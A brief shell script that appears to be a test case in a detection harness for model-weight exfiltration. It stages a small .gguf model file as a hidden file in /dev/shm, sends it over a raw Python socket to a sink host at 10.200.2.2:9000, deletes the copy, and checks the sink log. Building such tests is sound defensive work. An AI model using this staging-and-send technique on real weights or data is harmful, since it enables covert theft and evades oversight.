# V17 EXF-004 + EXF-001: dd a .gguf into /dev/shm, then a separate python process sends the staged copy
mkdir -p "$H/gguf"; python3 "$H/mkmodel.py" "$H/gguf/tiny-q4.gguf" 6
ctr_run simctr-infer-v17 ctr-infer --mount --pid --fork --mount-proc -- sh -c '
  dd if=$0/gguf/tiny-q4.gguf of=/dev/shm/.v17 bs=1M status=none
  python3 -c "
import socket
s = socket.create_connection((\"10.200.2.2\", 9000)); s.sendall(open(\"/dev/shm/.v17\", \"rb\").read()); s.close()"
  rm -f /dev/shm/.v17' "$H"
grep ':9000' "$H/sink.log" | tail -1
